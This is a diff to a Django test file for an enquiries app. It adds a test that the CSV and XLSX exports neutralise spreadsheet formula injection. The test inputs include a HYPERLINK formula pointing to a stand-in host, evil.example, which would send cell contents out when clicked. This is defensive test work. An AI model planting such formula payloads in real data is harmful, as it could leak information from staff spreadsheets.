@@ -6,6 +6,7 @@ import csv
 import io
 from datetime import timedelta
 
+import openpyxl
 import pytest
 from django.contrib.auth.models import Group, Permission
 from django.core.management import call_command
@@ -25,7 +26,7 @@ pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("topics")]
 def make_enquiry(email: str = "sam@example.org", **fields) -> Enquiry:
     topic = ContactTopic.objects.get(name="A general question")
     enquiry = Enquiry.objects.create(
-        name="Sam",
+        name=fields.pop("name", "Sam"),
         email=email,
         role="parent",
         topic=topic,
@@ -154,6 +155,51 @@ def test_export_and_erase_by_email(client, django_user_model):
     assert response.status_code == 302
     assert list(Enquiry.objects.all()) == [other]
     assert queued_send_args() == [[other.pk]]
+
+
+# OWASP's list of cell starts a spreadsheet may take as a formula.
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+def test_both_exports_defuse_formulas_and_leave_other_text_alone(client, django_user_model):
+    """`=HYPERLINK(...)` sent through the contact form must arrive as text in every export."""
+    for start in FORMULA_STARTS:
+        make_enquiry(
+            name=f'{start}HYPERLINK("https://evil.example/?"&A1,"Open")',
+            message=f"{start}1+1",
+        )
+    make_enquiry(name="Sam O'Neill", message="Hello, -5 degrees @ home = cold")
+    names = [f'\'{start}HYPERLINK("https://evil.example/?"&A1,"Open")' for start in FORMULA_STARTS]
+    messages = [f"'{start}1+1" for start in FORMULA_STARTS]
+    expected = [
+        *zip(names, messages, strict=True),
+        ("Sam O'Neill", "Hello, -5 degrees @ home = cold"),
+    ]
+    client.force_login(editor(django_user_model, "view_enquiry"))
+
+    def name_and_message(rows: list[list], name_heading: str, message_heading: str):
+        heading = list(rows[0])
+        at_name, at_message = heading.index(name_heading), heading.index(message_heading)
+        return sorted((row[at_name], row[at_message]) for row in rows[1:])
+
+    # The subject-access export (by email address).
+    export = client.post(
+        reverse("enquiries_enquiry:by_email"), {"email": "sam@example.org", "action": "export"}
+    )
+    rows = list(csv.reader(io.StringIO(export.content.decode())))
+    assert name_and_message(rows, "name", "message") == sorted(expected)
+
+    # The Enquiries list's "Download CSV".
+    export = client.get(reverse("enquiries_enquiry:index"), {"export": "csv"})
+    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
+    assert name_and_message(rows, "Name", "Message") == sorted(expected)
+
+    # ... and its "Download XLSX".
+    export = client.get(reverse("enquiries_enquiry:index"), {"export": "xlsx"})
+    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(export.streaming_content)))
+    rows = [list(row) for row in workbook.active.iter_rows(values_only=True)]
+    in_xlsx = [(n.replace("\r", "\n"), m.replace("\r", "\n")) for n, m in expected]  # XML's \r
+    assert name_and_message(rows, "Name", "Message") == sorted(in_xlsx)
 
 
 def test_purge_deletes_old_enquiries_and_their_queue_rows(settings):
